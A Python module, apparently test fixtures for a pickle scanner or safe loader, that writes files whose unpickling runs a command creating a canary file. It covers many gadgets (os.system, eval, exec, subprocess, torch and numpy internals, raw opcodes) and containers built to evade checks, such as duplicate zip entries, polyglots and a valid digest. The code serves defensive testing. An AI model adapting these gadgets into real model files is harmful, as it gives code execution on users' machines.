"""Files whose unpickling writes a canary: many ways to have something run, in every container that pickles come in.

for evil in EVILS:
    evil.write(path, canary)     # `evil.naive(path)` would now make the file `canary`
"""

from __future__ import annotations

import base64
import hashlib
import io
import os
import pickle
import runpy
import struct
import subprocess
import tarfile
import timeit
import warnings
import zipfile
import zlib
from collections import OrderedDict
from collections.abc import Callable
from pathlib import Path
from typing import Any, NamedTuple

import numpy as np
import torch
from torch.utils import collect_env


class Call:
    """Unpickled, it is what the function gives for these arguments."""

    def __init__(self, function: Any, *arguments: Any) -> None:
        self.function, self.arguments = function, arguments

    def __reduce__(self) -> Any:
        return self.function, self.arguments


def touch(canary: Path) -> str:
    return f"touch '{canary}'"


def python(canary: Path) -> str:
    return f"open({str(canary)!r}, 'w').close()"


def system(canary: Path) -> Call:
    return Call(os.system, touch(canary))


# ---- ways to have something run: canary -> pickle


def dumped(value: Any, protocol: int = 2) -> bytes:
    return pickle.dumps(value, protocol)


def inst(canary: Path) -> bytes:
    return f'(S"{touch(canary)}"\nios\nsystem\n.'.encode()


def obj(canary: Path) -> bytes:
    return f'(cos\nsystem\nS"{touch(canary)}"\no.'.encode()


def build(canary: Path) -> bytes:
    """BUILD gives an object a __setstate__ of its own, the next BUILD calls it."""
    state = b"}S'__setstate__'\ncos\nsystem\nsb"
    return b"ctypes\nSimpleNamespace\n)R" + state + f'S"{touch(canary)}"\nb.'.encode()


def stack_global(canary: Path) -> bytes:
    os_, system_, command = (b"X" + struct.pack("<I", len(w)) + w for w in (b"os", b"system", touch(canary).encode()))
    return b"\x80\x04" + os_ + system_ + b"\x93" + command + b"\x85R."


def nested(canary: Path) -> bytes:
    packed = base64.b64encode(zlib.compress(dumped(system(canary)))).decode()
    return dumped(Call(pickle.loads, Call(zlib.decompress, Call(base64.b64decode, packed))))


def through_torch(canary: Path) -> bytes:
    """torch.storage._load_from_bytes is torch.load(weights_only=False) under another name."""
    file = io.BytesIO()
    torch.save(system(canary), file)
    return dumped(Call(torch.storage._load_from_bytes, file.getvalue()))


def hooked(canary: Path) -> bytes:
    """A tensor whose hooks are not what hooks are."""
    made = torch.ones(2)
    rebuild, arguments = made.__reduce_ex__(2)
    storage, offset, size, stride, requires_grad, _ = arguments  # the storage pickles by itself here
    return dumped({"model": Call(rebuild, storage, offset, size, stride, requires_grad, system(canary))})


def with_attribute(canary: Path) -> bytes:
    """state_dict() gives an OrderedDict with an attribute, which BUILD sets."""
    weights: Any = OrderedDict(w=1)
    weights._metadata = system(canary)
    return dumped({"model": weights, "config": {}})


GADGETS: dict[str, Callable[[Path], bytes]] = {
    "os.system, protocol 0": lambda canary: dumped(system(canary), 0),
    "os.system": lambda canary: dumped(system(canary)),
    "os.system, protocol 5": lambda canary: dumped(system(canary), 5),
    "subprocess.getoutput": lambda canary: dumped(Call(subprocess.getoutput, touch(canary))),
    "subprocess": lambda canary: dumped(Call(subprocess.check_output, ["touch", str(canary)])),
    "eval": lambda canary: dumped(Call(eval, python(canary))),
    "exec": lambda canary: dumped(Call(exec, python(canary))),
    "open": lambda canary: dumped(Call(open, str(canary), "w")),
    "runpy": lambda canary: dumped(Call(runpy._run_code, compile_later(canary), {})),  # type: ignore[attr-defined]
    "timeit": lambda canary: dumped(Call(timeit.timeit, python(canary), "pass", timeit.default_timer, 1)),
    "numpy.testing": lambda canary: dumped(Call(np.testing._private.utils.runstring, python(canary), {})),  # type: ignore[attr-defined]
    "torch.utils.collect_env": lambda canary: dumped(Call(collect_env.run, touch(canary))),
    "pickle in pickle": nested,
    "torch.load in pickle": through_torch,
    "INST": inst,
    "OBJ": obj,
    "BUILD": build,
    "STACK_GLOBAL": stack_global,
    "in a dict": lambda canary: dumped({"model": {"w": system(canary)}, "config": {}}),
    "in lists": lambda canary: dumped([[[system(canary)]]]),
    "as a key": lambda canary: dumped({"model": {}, "config": {}, Key(canary): 1}),
    "an attribute of an OrderedDict": with_attribute,
    "hooks of a tensor": hooked,
    "an array of objects": lambda canary: dumped(np.array([system(canary)], dtype=object)),
}


class Key(Call):
    """A call that may stand as a key."""

    def __init__(self, canary: Path) -> None:
        super().__init__(os.system, touch(canary))


def compile_later(canary: Path) -> Call:
    return Call(compile, python(canary), "x", "exec")


# ---- containers: path, pickle -> a file


def plain(path: Path, pickled: bytes) -> None:
    path.write_bytes(pickled)


def archive(path: Path, pickled: bytes, compression: int = zipfile.ZIP_STORED) -> None:
    """As torch.save writes."""
    with zipfile.ZipFile(path, "w", compression) as file:
        for name, content in {"data.pkl": pickled, "byteorder": b"little", "version": b"3\n"}.items():
            file.writestr(f"archive/{name}", content)


def signed(path: Path, pickled: bytes) -> None:
    """With a digest that is right: that proves no good will."""
    archive(path, pickled)
    content = path.read_bytes()[:-2]
    comment = b"espalier-sha256:" + hashlib.sha256(content).hexdigest().encode()
    path.write_bytes(content + struct.pack("<H", len(comment)) + comment)


def packed(path: Path, pickled: bytes) -> None:
    archive(path, pickled, zipfile.ZIP_DEFLATED)


def twice(path: Path, pickled: bytes) -> None:
    """Two entries of one name: torch reads the first, Python's zipfile the last."""
    archive(path, pickled)
    with warnings.catch_warnings(), zipfile.ZipFile(path, "a") as file:
        warnings.simplefilter("ignore")
        file.writestr("archive/data.pkl", dumped({"model": {}, "config": {}}))


def two_faced(path: Path, pickled: bytes) -> None:
    """A pickle to those who read from the front, a harmless archive to those who read from the back."""
    archive(path, dumped({"model": {}, "config": {}}))
    path.write_bytes(pickled + path.read_bytes())


def old(path: Path, pickled: bytes) -> None:
    """As torch.save wrote before torch 1.6."""
    head = (0x1950A86A20F9469CFC6C, 1001, {"protocol_version": 1001, "little_endian": True, "type_sizes": {}})
    path.write_bytes(b"".join(map(dumped, head)) + pickled + dumped([]))


def tar(path: Path, pickled: bytes) -> None:
    """As torch.save wrote in its first year."""
    none = dumped(0) + dumped([])
    contents = {"sys_info": dumped({}), "storages": none, "tensors": none, "pickle": pickled}
    with tarfile.open(path, "w") as file:
        for name, content in contents.items():
            entry = tarfile.TarInfo(name)
            entry.size = len(content)
            file.addfile(entry, io.BytesIO(content))


def npy(path: Path, pickled: bytes) -> None:
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += b" " * (117 - len(header)) + b"\n"
    path.write_bytes(b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + pickled)


def npz(path: Path, pickled: bytes) -> None:
    npy(path, pickled)
    content = path.read_bytes()
    with zipfile.ZipFile(path, "w") as file:
        file.writestr("a.npy", content)


# ---- both


def unpickled(path: Path) -> object:
    with open(path, "rb") as file:
        return pickle.load(file)


def torch_loaded(path: Path) -> object:
    return torch.load(path, weights_only=False)


def numpy_loaded(path: Path) -> object:
    found = np.load(path, allow_pickle=True)
    return found["a"] if isinstance(found, np.lib.npyio.NpzFile) else found


class Evil(NamedTuple):
    """One kind of file; `naive` is the way of reading it that runs it."""

    name: str
    gadget: Callable[[Path], bytes]
    container: Callable[[Path, bytes], None]
    naive: Callable[[Path], object]

    def write(self, path: Path, canary: Path) -> Path:
        self.container(path, self.gadget(canary))
        return path


EVILS = [
    *(Evil(f"{name} in an archive", gadget, archive, torch_loaded) for name, gadget in GADGETS.items()),
    *(
        Evil(f"os.system in {container.__name__}", GADGETS["os.system"], container, naive)
        for container, naive in (
            (plain, unpickled),
            (signed, torch_loaded),
            (packed, torch_loaded),
            (twice, torch_loaded),
            (two_faced, unpickled),
            (old, torch_loaded),
            (tar, torch_loaded),
            (npy, numpy_loaded),
            (npz, numpy_loaded),
        )
    ),
    *(
        Evil(f"{name}, plain", GADGETS[name], plain, unpickled)
        for name in ("os.system, protocol 0", "os.system, protocol 5", "INST", "BUILD", "STACK_GLOBAL")
    ),
]
